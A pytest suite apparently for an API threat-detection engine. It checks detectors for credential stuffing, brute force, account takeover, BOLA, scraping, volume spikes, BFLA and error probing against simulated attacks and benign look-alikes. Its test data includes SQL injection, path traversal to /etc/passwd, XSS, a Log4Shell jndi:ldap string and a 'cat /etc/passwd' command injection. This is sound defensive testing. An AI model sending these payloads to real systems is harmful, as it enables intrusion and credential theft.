"""Each detector against an attack it must catch and a close benign look-alike it must not.

Every scenario is a canonical event frame built by :mod:`tests.detect.frames` and run
the way the engine runs one micro-batch; assertions name the entity, the severity and
the evidence numbers an analyst would read, and check that no clear account name,
password, token or API key reaches the output.
"""

from __future__ import annotations

import json
import random
from datetime import timedelta

import polars as pl
import pytest

from apisight.detect import geo
from apisight.detect.detectors.account_takeover import NO_GEO
from apisight.detect.detectors.brute_force import NO_USERNAMES as BF_NO_USERNAMES
from apisight.detect.detectors.credential_stuffing import NO_USERNAMES as CS_NO_USERNAMES
from apisight.errors import ConfigError
from tests.detect.frames import (
    PASSWORD,
    T0,
    alerts,
    concat,
    detector,
    entities,
    events,
    fp,
    key_id,
    leaked,
    run,
)

MIN = 60
HOUR = 3600
LOGIN = {"method": "POST", "path": "/v2/auth/login"}
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36"


def spread(i: int) -> str:
    """A public IPv4 address in its own /24 for each ``i``."""
    return f"45.{10 + i // 200}.{i % 200}.9"


def users(n: int, domain: str = "example.com") -> list[str]:
    return [f"customer{i:04d}@{domain}" for i in range(n)]


# --- registry and settings ------------------------------------------------------------------------------


def test_every_detector_is_registered_and_rejects_unknown_options():
    for name in ("credential_stuffing", "brute_force", "account_takeover", "bola", "scraping", "abnormal_volume",
                 "bfla", "error_probing"):
        assert detector(name).name == name
    with pytest.raises(ConfigError, match="min_failures"):
        detector("brute_force", min_failures=0)
    with pytest.raises(ConfigError, match="detect.detectors.bola"):
        detector("bola", min_objectz=3)


# --- credential stuffing --------------------------------------------------------------------------------


def stuffing_from(ips: list[str] | str, n: int = 40, *, every: float = 15, ok_every: int = 10, **kw):
    """``n`` logins for ``n`` distinct accounts, one in ``ok_every`` succeeding, the rest 401."""
    return events(n, tag="atk", every=every, username=users(n), client_ip=ips,
                  status=[200 if i % ok_every == ok_every - 1 else 401 for i in range(n)],
                  user_agent="python-requests/2.31.0", **LOGIN, **kw)


def test_stuffing_one_address_many_accounts():
    attack = stuffing_from("203.0.113.66")  # 40 accounts in 10 min, 36 refused
    (a,) = alerts("credential_stuffing", attack)
    assert (a["entity_kind"], a["entity"]) == ("ip", "203.0.113.66")
    assert a["severity"] == "high" and a["limits"] == []
    ev = a["evidence"]
    assert (ev["events"], ev["accounts"], ev["failures"], ev["successes"], ev["addresses"]) == (40, 40, 36, 4, 1)
    assert ev["failure_ratio"] == pytest.approx(0.9)
    # raised at the record that crossed min_attempts (the 30th), as a streaming run would
    assert a["detected_at"] == T0 + timedelta(seconds=29 * 15)
    assert set(a["sample_event_ids"]) <= set(attack["event_id"])
    assert leaked([a], PASSWORD, *users(40)) == []


def test_stuffing_from_several_addresses_of_one_network_names_the_network():
    attack = stuffing_from([f"198.51.100.{10 + i % 4}" for i in range(40)])
    (a,) = alerts("credential_stuffing", attack)
    assert (a["entity_kind"], a["entity"]) == ("ip_net", "198.51.100.0/24")
    assert a["evidence"]["addresses"] == 4 and a["evidence"]["accounts"] == 40
    assert {f"ip:198.51.100.{10 + i}" for i in range(4)} <= set(a["related"])


def test_stuffing_through_a_token_endpoint_by_api_key():
    key = "sk_live_stuffer_0123456789abcdef"
    attack = events(40, tag="atk", every=15, method="POST", path="/oauth2/token", api_key=key,
                    username=users(40), client_ip=[spread(i) for i in range(40)],
                    status=[400 if i % 8 else 200 for i in range(40)])
    found = alerts("credential_stuffing", attack)
    assert entities(found) == {("api_key", key_id(key))}
    assert leaked(found, key, PASSWORD, *users(40)) == []


def test_office_nat_where_real_users_log_in_is_not_stuffing():
    office = events(40, every=15, username=users(40, "corp.example"), client_ip="203.0.113.80",
                    status=[401 if i % 10 == 0 else 200 for i in range(40)], user_agent=CHROME, **LOGIN)
    assert alerts("credential_stuffing", office) == []


def test_stuffing_thresholds_come_from_the_settings():
    attack = stuffing_from("203.0.113.66")
    assert alerts(detector("credential_stuffing", min_accounts=41), attack) == []
    assert len(alerts(detector("credential_stuffing", min_attempts=20, min_accounts=20), attack)) == 1


def test_the_roles_a_detector_watches_come_from_the_settings():
    token_attack = events(40, tag="atk", every=15, method="POST", path="/oauth2/token", username=users(40),
                          client_ip="203.0.113.70", status=[400 if i % 8 else 200 for i in range(40)])
    assert len(alerts("credential_stuffing", token_attack)) == 1
    assert alerts(detector("credential_stuffing", roles=["login"]), token_attack) == []
    with pytest.raises(ConfigError, match="unknown role"):
        detector("credential_stuffing", roles=["logon"])


def distributed(n_addresses: int = 120, *, agent: str, fail_share: float, tag: str, first: int = 0,
                hours: float = 5):
    """1–2 tries from each of ``n_addresses`` spread-out addresses over ``hours``, one user agent."""
    ips = [spread(first + i) for i in range(n_addresses) for _ in range(2 if i % 2 else 1)]
    n = len(ips)
    fails = round(n * fail_share)
    status = [401 if i < fails else 200 for i in range(n)]
    random.Random(n).shuffle(status)
    return events(n, tag=tag, every=hours * HOUR / n, username=users(n), client_ip=ips, status=status,
                  user_agent=agent, **LOGIN)


def test_distributed_stuffing_shares_a_user_agent():
    bot = "Mozilla/5.0 (compatible; okhttp/4.9.3)"
    attack = distributed(agent=bot, fail_share=0.95, tag="atk")  # 180 tries from 120 addresses
    normal = distributed(400, agent=CHROME, fail_share=0.10, tag="ok", first=1000)
    (a,) = alerts("credential_stuffing", concat(attack, normal))
    assert (a["entity_kind"], a["entity"]) == ("user_agent", bot)
    ev = a["evidence"]
    assert ev["addresses"] == 120 and ev["events"] == 180 and ev["attempts_per_address"] == 1.5
    assert ev["failure_ratio"] == pytest.approx(0.95, abs=0.01)
    assert ev["endpoint_failure_ratio"] == pytest.approx(0.1, abs=0.03)  # the rest of the endpoint, not the bot
    assert leaked([a], PASSWORD, *users(600)) == []


def test_a_popular_user_agent_failing_at_the_usual_rate_is_not_distributed_stuffing():
    traffic = distributed(agent=CHROME, fail_share=0.10, tag="ok")
    assert alerts("credential_stuffing", traffic) == []


def test_distributed_stuffing_thresholds_come_from_the_settings():
    bot = "Mozilla/5.0 (compatible; okhttp/4.9.3)"
    frame = concat(distributed(agent=bot, fail_share=0.95, tag="atk"),
                   distributed(400, agent=CHROME, fail_share=0.10, tag="ok", first=1000))
    assert alerts(detector("credential_stuffing", distributed_min_addresses=121), frame) == []


def test_distributed_stuffing_that_dominates_the_login_traffic():
    bot = "Mozilla/5.0 (compatible; okhttp/4.9.3)"
    attack = distributed(agent=bot, fail_share=0.95, tag="atk")  # 180 tries, 95% failing
    normal = distributed(100, agent=CHROME, fail_share=0.10, tag="ok", first=1000)  # 150 tries, 10% failing
    assert entities(alerts("credential_stuffing", concat(attack, normal))) == {("user_agent", bot)}


def test_blind_stuffing_needs_more_attempts_and_says_what_it_could_not_see():
    def blind(n: int):  # no request bodies: the account names are unknown
        return events(n, tag="atk", every=9, client_ip="203.0.113.70", user_agent="curl/8.4.0",
                      status=[200 if i % 20 == 0 else 401 for i in range(n)], **LOGIN)

    assert alerts("credential_stuffing", blind(40)) == []  # 40 named tries would be an alert, 40 blind ones not
    (a,) = alerts("credential_stuffing", blind(100))
    assert (a["entity_kind"], a["entity"]) == ("ip", "203.0.113.70")
    assert a["limits"] == [CS_NO_USERNAMES] and a["confidence"] == 0.6
    assert a["evidence"]["accounts"] == 0 and a["evidence"]["events"] >= 90


def test_stuffing_from_a_compressed_ipv6_address():
    (a,) = alerts("credential_stuffing", stuffing_from("2a01:4f8:c17::9"))
    assert (a["entity_kind"], a["entity"]) == ("ip", "2a01:4f8:c17::9")


# --- brute force ----------------------------------------------------------------------------------------

VICTIM = "carol.jones@example.com"


def test_brute_force_on_one_account():
    attack = events(15, tag="atk", every=40, username=VICTIM, status=401,
                    client_ip=[f"203.0.113.{20 + i % 3}" for i in range(15)], **LOGIN)
    (a,) = alerts("brute_force", attack)
    assert (a["entity_kind"], a["entity"]) == ("username", fp(VICTIM))  # a fingerprint, never the name
    assert a["severity"] == "high"
    ev = a["evidence"]
    assert (ev["failures"], ev["successes"], ev["addresses"], ev["failure_ratio"]) == (15, 0, 3, 1.0)
    assert a["confidence"] == pytest.approx(0.5 + 15 / 40, abs=0.006)
    assert leaked([a], VICTIM, PASSWORD) == []


def guessed():
    return events(16, tag="atk", every=30, username=VICTIM, status=[401] * 15 + [200], client_ip="203.0.113.20",
                  **LOGIN)


def test_brute_force_that_ends_in_a_success_is_still_reported():
    (a,) = alerts("brute_force", guessed())
    assert a["evidence"]["failures"] == 15
    windows = run("brute_force", guessed())
    assert [json.loads(e)["successes"] for e in windows["evidence"]][-1] == 1  # the last window saw the success


def test_a_successful_brute_force_says_so():
    (a,) = alerts("brute_force", guessed())
    assert a["evidence"]["successes"] == 1
    assert a["severity"] == "critical"


def test_a_customer_mistyping_their_password_is_not_brute_force():
    typos = events(6, every=20, username=VICTIM, status=[401] * 5 + [200], client_ip="81.2.69.142", **LOGIN)
    assert alerts("brute_force", typos) == []


def test_brute_force_threshold_comes_from_the_settings():
    attack = events(15, tag="atk", every=40, username=VICTIM, status=401, client_ip="203.0.113.20", **LOGIN)
    assert alerts(detector("brute_force", min_failures=16), attack) == []
    assert len(alerts(detector("brute_force", min_failures=15), attack)) == 1


def test_blind_brute_force_is_counted_per_address():
    attack = events(70, tag="atk", every=10, status=401, client_ip="203.0.113.21", **LOGIN)
    (a,) = alerts("brute_force", attack)
    assert (a["entity_kind"], a["entity"], a["severity"]) == ("ip", "203.0.113.21", "medium")
    assert a["limits"] == [BF_NO_USERNAMES]
    assert alerts("brute_force", attack.head(50)) == []


# --- account takeover -----------------------------------------------------------------------------------

HOME_IP, ABROAD_IP, ATTACKER_IP = "81.2.69.142", "200.160.2.2", "41.0.0.7"  # GB, BR, ZA (offline GeoIP)
PHONE = "BankApp/5.1 (iPhone; iOS 17.4)"
ATTACKER_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
ATTACK_AT = 30 * HOUR  # after 30 h of history: established (learning is 24 h)
PAY = {"method": "POST", "path": "/v2/payments"}


def usual_life(principal: str = "alice", hours: int = 30):
    """A customer's ordinary days: a balance check every half hour from home, on their phone."""
    return events(2 * hours, every=HOUR / 2, path="/v2/accounts", principal=principal, token=f"jwt-{principal}-sess1",
                  client_ip=HOME_IP, user_agent=PHONE)


def failed_logins(n: int, ip: str, ua: str, *, at: float = ATTACK_AT, name: str = "alice@example.com"):
    return events(n, tag="atk", start=at, every=30, username=name, status=401, client_ip=ip, user_agent=ua, **LOGIN)


def payment(ip: str, ua: str, *, at: float = ATTACK_AT + 5 * MIN, principal: str = "alice", status: int = 201):
    return events(1, tag="atk", ts=[at], principal=principal, token=f"jwt-{principal}-sess2", client_ip=ip,
                  user_agent=ua, status=status, **PAY)


def test_takeover_failed_logins_then_a_payment_from_a_new_device():
    frame = concat(usual_life(), failed_logins(4, ATTACKER_IP, ATTACKER_UA), payment(ATTACKER_IP, ATTACKER_UA))
    (a,) = alerts("account_takeover", frame)
    assert (a["entity_kind"], a["entity"], a["severity"]) == ("principal", "alice", "critical")
    assert a["confidence"] == 0.95
    assert a["evidence"] == {"failed_logins": 4, "new_country": True, "country": "ZA", "actions": ["payment"]}
    assert a["endpoints"] == ["POST /v2/payments"] and f"ip:{ATTACKER_IP}" in a["related"]
    assert a["first_seen"] == T0 + timedelta(seconds=ATTACK_AT)  # from the first failed login
    assert all(e.startswith("atk-") for e in a["sample_event_ids"])
    assert leaked([a], "alice@example.com", PASSWORD, "jwt-alice-sess1", "jwt-alice-sess2") == []


def test_no_takeover_when_the_customer_pays_from_their_usual_device_after_mistyping():
    frame = concat(usual_life(), failed_logins(4, HOME_IP, PHONE), payment(HOME_IP, PHONE))
    assert alerts("account_takeover", frame) == []


def test_no_takeover_for_a_traveller_paying_abroad_on_their_own_phone():
    assert alerts("account_takeover", concat(usual_life(), payment(ABROAD_IP, PHONE))) == []


def test_new_country_and_new_browser_without_failed_logins_is_a_takeover_of_lower_certainty():
    (a,) = alerts("account_takeover", concat(usual_life(), payment(ABROAD_IP, ATTACKER_UA)))
    assert (a["entity"], a["severity"], a["confidence"]) == ("alice", "high", 0.7)
    assert a["evidence"]["failed_logins"] == 0 and a["evidence"]["country"] == "BR"


def test_takeover_needs_the_customer_seen_before_on_another_device():
    frame = concat(failed_logins(4, ATTACKER_IP, ATTACKER_UA), payment(ATTACKER_IP, ATTACKER_UA, principal="bob"))
    assert alerts("account_takeover", frame) == []
    young = concat(usual_life(hours=10), failed_logins(4, ATTACKER_IP, ATTACKER_UA, at=10 * HOUR),
                   payment(ATTACKER_IP, ATTACKER_UA, at=10 * HOUR + 5 * MIN))
    # seen 10 h ago on her own phone: failed logins then a payment from a new device are enough
    assert entities(alerts("account_takeover", young)) == {("principal", "alice")}


def test_no_takeover_when_the_action_is_not_sensitive_or_was_refused():
    browse = events(1, ts=[ATTACK_AT + 5 * MIN], path="/v2/accounts", principal="alice", client_ip=ATTACKER_IP,
                    user_agent=ATTACKER_UA)
    refused = payment(ATTACKER_IP, ATTACKER_UA, status=403)
    for action in (browse, refused):
        assert alerts("account_takeover", concat(usual_life(), failed_logins(4, ATTACKER_IP, ATTACKER_UA),
                                                 action)) == []


def test_takeover_failures_threshold_comes_from_the_settings():
    frame = concat(usual_life(), failed_logins(4, ATTACKER_IP, ATTACKER_UA), payment(ATTACKER_IP, PHONE))
    assert alerts(detector("account_takeover", min_failures=5), frame) == []
    (a,) = alerts(detector("account_takeover", min_failures=4), frame)
    assert a["severity"] == "critical" and a["evidence"]["new_country"] is True


def test_takeover_without_geo_still_fires_on_failures_and_says_so(monkeypatch):
    monkeypatch.setattr(geo, "_database", lambda: None)
    frame = concat(usual_life(), failed_logins(4, ATTACKER_IP, ATTACKER_UA), payment(ATTACKER_IP, ATTACKER_UA))
    (a,) = alerts("account_takeover", frame)
    assert (a["severity"], a["confidence"]) == ("critical", 0.85)
    assert a["evidence"]["new_country"] is False and a["limits"] == [NO_GEO]


STOLEN = "eyJhbGciOiJSUzI1NiJ9.stolen-session-token.sig"
FOUR_COUNTRIES = ["81.2.69.1", "81.2.69.2", "81.2.69.3", "41.0.0.1", "41.0.0.2", "41.0.0.3", "200.160.2.1",
                  "200.160.2.2", "133.242.0.1", "133.242.0.2"]  # GB, ZA, BR, JP


def test_one_token_replayed_from_many_countries():
    replay = events(20, tag="atk", every=MIN, token=STOLEN, client_ip=FOUR_COUNTRIES * 2, path="/v2/accounts")
    (a,) = alerts("account_takeover", replay)
    assert (a["entity_kind"], a["entity"], a["severity"]) == ("token", fp(STOLEN), "critical")
    ev = a["evidence"]
    assert (ev["addresses"], ev["countries"]) == (10, 4)
    assert sorted(ev["country_list"]) == ["BR", "GB", "JP", "ZA"]
    assert f"token:{fp(STOLEN)}" in a["related"]
    assert leaked([a], STOLEN) == []


def test_a_replayed_token_with_a_subject_is_reported_on_the_principal():
    replay = events(20, tag="atk", every=MIN, token=STOLEN, principal="dave", client_ip=FOUR_COUNTRIES * 2)
    assert entities(alerts("account_takeover", replay)) == {("principal", "dave")}


def test_a_token_from_two_addresses_or_one_mobile_carrier_is_not_replay():
    two = events(20, every=MIN, token=STOLEN, client_ip=["81.2.69.1", "41.0.0.1"] * 10)
    carrier = events(20, every=MIN, token=STOLEN, client_ip=[f"41.0.{i % 10}.1" for i in range(20)])  # one AS
    assert alerts("account_takeover", two) == []
    assert alerts("account_takeover", carrier) == []


# --- BOLA -----------------------------------------------------------------------------------------------

def reads(ids: list, *, client: str, tag: str = "e", status=200, every: float = 10, start: float = 0,
          template: str = "/v2/accounts/{accountId}", **kw):
    prefix = template.split("{")[0]
    return events(len(ids), tag=tag, every=every, start=start, principal=client, template=template,
                  path=[prefix + str(i) + template.split("}", 1)[1] for i in ids], status=status, **kw)


def peers(n: int = 25, template: str = "/v2/accounts/{accountId}"):
    """Customers reading one or two of their own accounts."""
    rng = random.Random(7)
    return concat(*(reads([rng.randrange(10**7, 10**8) for _ in range(1 + c % 2)], client=f"cust{c}", every=60,
                          start=c * 7, template=template) for c in range(n)))


def enumeration(served: int = 10, n: int = 50, **kw):
    """``n`` sequential account ids in about 8 minutes, all denied but ``served``."""
    return reads(list(range(1000, 1000 + n)), client="eve", tag="atk",
                 status=[200 if i % (n // served) == 0 else 404 - (i % 2) for i in range(n)] if served
                 else [404 - (i % 2) for i in range(n)], **kw)


def test_bola_reading_objects_that_history_ties_to_other_customers():
    rng = random.Random(11)
    owned = [rng.randrange(10**7, 10**8) for _ in range(30)]  # random ids: no sequence, nothing denied
    owners = concat(*(reads([i], client=f"owner{k}", start=k) for k, i in enumerate(owned)))
    theft = reads(owned[:24], client="mallory", tag="atk", start=3600, every=20)
    (a,) = alerts("bola", concat(owners, peers(), theft))
    assert (a["entity_kind"], a["entity"], a["severity"]) == ("principal", "mallory", "critical")
    ev = a["evidence"]
    assert ev["others_objects"] == 24 and ev["denied"] == 0 and ev["sequential_density"] == 0.0
    assert alerts(detector("bola", min_others_objects=25), concat(owners, peers(), theft)) == []


def test_an_object_many_customers_share_is_not_enumeration():
    shared = concat(*(reads([4242, 4243], client=f"family{k}", start=k * 30) for k in range(30)))
    assert alerts("bola", concat(shared, peers())) == []


def test_bola_sequential_ids_mostly_denied_some_served_is_critical():
    (a,) = alerts("bola", concat(peers(), enumeration(served=10)))
    assert (a["entity_kind"], a["entity"], a["severity"]) == ("principal", "eve", "critical")
    ev = a["evidence"]
    assert (ev["objects"], ev["denied"], ev["served"]) == (50, 40, 10)
    assert ev["denied_ratio"] == 0.8 and ev["sequential_density"] == 1.0
    assert ev["peer_clients"] == 25 and ev["peer_p95"] <= 2  # the other clients
    assert a["endpoints"] == ["GET /v2/accounts/{accountId}"]


def test_bola_with_nothing_served_keeps_the_configured_severity():
    (a,) = alerts("bola", concat(peers(), enumeration(served=0)))
    assert a["severity"] == "high" and a["evidence"]["served"] == 0
    (a,) = alerts(detector("bola", severity="medium"), concat(peers(), enumeration(served=0)))
    assert a["severity"] == "medium"


def test_a_partner_reading_many_existing_random_ids_is_not_bola():
    rng = random.Random(3)
    partner = reads([rng.randrange(10**7, 10**8) for _ in range(50)], client="aggregator-ltd", every=10)
    assert alerts("bola", concat(peers(), partner)) == []


def test_bola_min_objects_comes_from_the_settings():
    frame = concat(peers(), enumeration())
    assert alerts(detector("bola", min_objects=51), frame) == []
    assert len(alerts(detector("bola", min_objects=50), frame)) == 1




@pytest.mark.parametrize("probe", [pytest.param("{}--"), "{}%27%20OR%201=1", "{}%20UNION%20SELECT%20null", "..%2f{}",
                                   "{}'%20or%20'1'='1"])
def test_injection_payloads_in_the_id_slot_are_not_ids(probe):
    probing = events(50, tag="atk", every=10, principal="eve", template="/v2/accounts/{accountId}",
                     path=[f"/v2/accounts/{probe.format(1000 + i)}" for i in range(50)], status=404)
    assert alerts("bola", concat(peers(), probing)) == []


def test_bola_enumeration_with_a_single_other_client():
    assert entities(alerts("bola", concat(peers(1), enumeration()))) == {("principal", "eve")}


def test_bola_on_a_sub_resource_of_the_object():
    template = "/identity/api/v2/vehicle/{vehicleId}/location"
    frame = concat(peers(template=template), enumeration(template=template))
    assert entities(alerts("bola", frame)) == {("principal", "eve")}


# --- scraping -------------------------------------------------------------------------------------------

SCRAPER_KEY = "sk_live_scraper_0123456789abcdef"
LIST = {"path": "/v2/transactions"}


def browsing(n: int = 30):
    """Customers looking at the first page or two of their transactions."""
    return concat(*(events(1 + c % 2, start=c * 30, every=20, principal=f"cust{c}",
                           query=[f"page={p}&size=20" for p in range(1, 2 + c % 2)], **LIST) for c in range(n)))


def paging(pages, *, api_key: str = SCRAPER_KEY, every: float = 40, param: str = "page"):
    return events(len(pages), tag="atk", every=every, api_key=api_key, response_bytes=20_000,
                  query=[f"size=20&{param}={p}" for p in pages], **LIST)


def test_scraping_one_key_pages_through_a_collection():
    (a,) = alerts("scraping", concat(browsing(), paging(range(1, 31))))  # 30 pages in 20 min
    assert (a["entity_kind"], a["entity"], a["severity"]) == ("api_key", key_id(SCRAPER_KEY), "high")
    ev = a["evidence"]
    assert (ev["pages"], ev["last_page"], ev["coverage"], ev["bytes_returned"]) == (30, 30, 1.0, 600_000)
    assert ev["peer_clients"] == 30 and ev["peer_p95"] <= 2  # the other clients: never its own peer
    assert a["endpoints"] == ["GET /v2/transactions"]
    assert leaked([a], SCRAPER_KEY) == []


def test_a_client_reading_a_few_pages_is_not_scraping():
    assert alerts("scraping", concat(browsing(), paging(range(1, 6)))) == []


def test_junk_page_values_are_not_pages():
    junk = [f"{p}%27%20OR%201=1--" for p in range(30)] + [f"../../etc/passwd{p}" for p in range(10)] + [""] * 5
    assert alerts("scraping", concat(browsing(), paging(junk, every=20))) == []


def test_scraping_thresholds_come_from_the_settings():
    frame = concat(browsing(), paging(range(1, 31)))
    assert alerts(detector("scraping", min_pages=31), frame) == []
    sparse = concat(browsing(), paging(range(1, 61, 2)))  # every other page: coverage 0.5
    assert alerts("scraping", sparse) == []
    assert len(alerts(detector("scraping", min_coverage=0.5), sparse)) == 1


def test_scraping_by_offset():
    assert len(alerts("scraping", concat(browsing(), paging(range(0, 600, 20), param="offset")))) == 1


def test_scraping_with_a_single_other_client():
    assert len(alerts("scraping", concat(browsing(1), paging(range(1, 31))))) == 1


# --- abnormal volume ------------------------------------------------------------------------------------

BATCH_KEY = "sk_live_batchjob_0123456789abcd"


def hourly(hours: int, per_hour: int, *, start: float = 0, api_key: str = BATCH_KEY, tag: str = "e"):
    return events(hours * per_hour, tag=tag, start=start, every=HOUR / per_hour, api_key=api_key,
                  path="/v2/rates")


def burst(at: float, n: int = 300, *, api_key: str = BATCH_KEY):
    return events(n, tag="atk", start=at, every=50 * MIN / n, api_key=api_key, path="/v2/rates")


def test_volume_far_above_the_clients_own_history():
    frame = concat(hourly(30, 10), burst(30 * HOUR))  # ~10 an hour for 30 h, then 300 in 50 min
    (a,) = alerts("abnormal_volume", frame)
    assert (a["entity_kind"], a["entity"], a["severity"]) == ("api_key", key_id(BATCH_KEY), "high")
    ev = a["evidence"]
    assert 300 <= ev["requests"] <= 310 and ev["baseline"] == 10.0 and ev["times_baseline"] >= 30
    assert ev["history_hours"] >= 24
    assert leaked([a], BATCH_KEY) == []


def test_no_volume_alert_while_a_client_is_still_learning():
    assert alerts("abnormal_volume", burst(0)) == []  # no history at all
    young = concat(hourly(20, 10), burst(20 * HOUR))
    assert alerts("abnormal_volume", young) == []  # 20 h < 24 h
    assert len(alerts("abnormal_volume", young, learning=timedelta(hours=12))) == 1


def test_no_volume_alert_when_such_hours_are_part_of_the_clients_history():
    batch_runs = concat(*(burst(h * HOUR) for h in (6, 18, 30, 42)))  # 300 requests every 12 h
    frame = concat(hourly(48, 10).filter(~pl.col("ts").dt.hour().is_in([15, 3])), batch_runs, burst(54 * HOUR))
    assert alerts("abnormal_volume", frame) == []


def test_volume_thresholds_come_from_the_settings():
    frame = concat(hourly(30, 10), burst(30 * HOUR))
    assert alerts(detector("abnormal_volume", factor=40), frame) == []
    assert alerts(detector("abnormal_volume", min_requests=400), frame) == []


# --- BFLA -----------------------------------------------------------------------------------------------

ADMIN = [("GET", "/admin/users"), ("GET", "/internal/config"), ("GET", "/actuator/env"), ("POST", "/debug/vars")]


def admin_probe(calls, *, status=403, zone: str = "external"):
    return events(len(calls), tag="atk", every=30, principal="eve", method=[m for m, _ in calls],
                  path=[p for _, p in calls], status=status, client_zone=zone)


def test_bfla_an_outside_client_calling_admin_functions():
    (a,) = alerts("bfla", admin_probe(ADMIN))
    assert (a["entity_kind"], a["entity"], a["severity"]) == ("principal", "eve", "high")
    ev = a["evidence"]
    assert (ev["functions"], ev["admin_calls"], ev["refused_methods"], ev["allowed"]) == (4, 4, 0, 0)
    assert set(a["endpoints"]) == {f"{m} {p}" for m, p in ADMIN}


def test_bfla_is_critical_when_an_admin_function_answered():
    (a,) = alerts("bfla", admin_probe(ADMIN, status=[403, 403, 200, 403]))
    assert a["severity"] == "critical" and a["evidence"]["allowed"] == 1


def test_bfla_refused_methods_on_ordinary_endpoints():
    calls = [("DELETE", "/v2/accounts/12345"), ("PUT", "/v2/payments"), ("PATCH", "/v2/customers/77")]
    frame = events(3, tag="atk", every=30, principal="eve", method=[m for m, _ in calls],
                   path=[p for _, p in calls], template=["/v2/accounts/{accountId}", "/v2/payments",
                                                         "/v2/customers/{customerId}"], status=405)
    (a,) = alerts("bfla", frame)
    assert a["evidence"]["refused_methods"] == 3 and a["evidence"]["admin_calls"] == 0


def test_no_bfla_from_inside_or_for_two_calls():
    assert alerts("bfla", admin_probe(ADMIN, zone="internal")) == []
    assert alerts("bfla", admin_probe(ADMIN[:2])) == []


def test_bfla_min_functions_comes_from_the_settings():
    assert alerts(detector("bfla", min_functions=5), admin_probe(ADMIN)) == []
    assert len(alerts(detector("bfla", min_functions=2), admin_probe(ADMIN[:2]))) == 1


# --- error-driven probing -------------------------------------------------------------------------------

SCANNER = "203.0.113.99"
PAYLOADS = ["q=1%27%20OR%201=1--", "q=%27%20union%20select%20password%20from%20users--", "file=..%2f..%2fetc%2fpasswd",
            "q=%3Cscript%3Ealert(1)%3C/script%3E", "q=${jndi:ldap://x.example/a}", "q=1;%20cat%20/etc/passwd",
            "q=sleep(5)", "q={{7*7}}"]


def injections(n: int = 40, *, status=400):
    return events(n, tag="atk", every=7, client_ip=SCANNER, user_agent="sqlmap/1.7",
                  path=["/v2/accounts", "/v2/transactions", "/v2/search", "/v2/files"] * (n // 4),
                  query=[PAYLOADS[i % len(PAYLOADS)] + f"&n={i}" for i in range(n)], status=status)


def test_error_probing_with_injection_payloads():
    (a,) = alerts("error_probing", injections())  # 40 in under 5 min, all 400
    assert (a["entity_kind"], a["entity"], a["severity"]) == ("ip", SCANNER, "medium")
    ev = a["evidence"]
    assert (ev["errors"], ev["payloads"], ev["error_ratio"], ev["server_errors"]) == (40, 40, 1.0, 0)
    assert a["confidence"] == 0.9


def test_error_probing_that_breaks_the_server_is_high():
    (a,) = alerts("error_probing", injections(status=[500 if i % 10 == 0 else 400 for i in range(40)]))
    assert a["severity"] == "high" and a["evidence"]["server_errors"] == 4


def test_a_fuzzer_without_payloads_rejected_across_endpoints():
    paths = [f"/v2/{r}" for r in ("accounts", "transactions", "payees", "cards", "statements")]
    fuzz = events(40, tag="atk", every=7, client_ip=SCANNER, path=paths * 8, query=[f"limit=-{i}" for i in range(40)],
                  status=[400, 422] * 20)
    (a,) = alerts("error_probing", fuzz)
    assert a["confidence"] == 0.7 and a["evidence"]["input_rejected"] == 40 and a["evidence"]["payloads"] == 0


def test_denials_are_not_input_probing():
    enum = events(40, every=7, client_ip=SCANNER, path=[f"/v2/accounts/{1000 + i}" for i in range(40)],
                  template="/v2/accounts/{accountId}", status=404)
    one_path = events(40, every=7, client_ip=SCANNER, path="/v2/accounts/1000", template="/v2/accounts/{accountId}",
                      status=404)
    admin = events(40, every=7, client_ip=SCANNER, path=[p for _, p in ADMIN] * 10, status=[403, 405] * 20)
    for frame in (enum, one_path, admin):
        assert alerts("error_probing", frame) == []
    assert entities(alerts("bfla", admin)) == {("ip", SCANNER)}  # that one is function probing


def test_error_probing_honours_the_configured_severity():
    (a,) = alerts(detector("error_probing", severity="low"), injections())
    assert a["severity"] == "low"


def test_error_probing_thresholds_come_from_the_settings():
    assert alerts(detector("error_probing", min_errors=41), injections()) == []
    assert len(alerts(detector("error_probing", window_minutes=2), injections())) == 0


# --- all detectors --------------------------------------------------------------------------------------


def test_no_detector_puts_a_clear_secret_in_its_candidates():
    frame = concat(stuffing_from("203.0.113.66"), guessed(), usual_life(),
                   failed_logins(4, ATTACKER_IP, ATTACKER_UA), payment(ATTACKER_IP, ATTACKER_UA),
                   events(20, tag="atk", every=MIN, token=STOLEN, client_ip=FOUR_COUNTRIES * 2),
                   browsing(), paging(range(1, 31)), hourly(30, 10), burst(30 * HOUR), injections())
    secrets = [PASSWORD, VICTIM, "alice@example.com", "jwt-alice-sess1", "jwt-alice-sess2", STOLEN, SCRAPER_KEY,
               BATCH_KEY, *users(40)]
    fired = set()
    for name in ("credential_stuffing", "brute_force", "account_takeover", "bola", "scraping", "abnormal_volume",
                 "bfla", "error_probing"):
        found = run(name, frame)
        assert leaked(found, *secrets) == [], name
        fired |= {name} if found.height else set()
    assert fired >= {"credential_stuffing", "brute_force", "account_takeover", "scraping", "abnormal_volume",
                     "error_probing"}
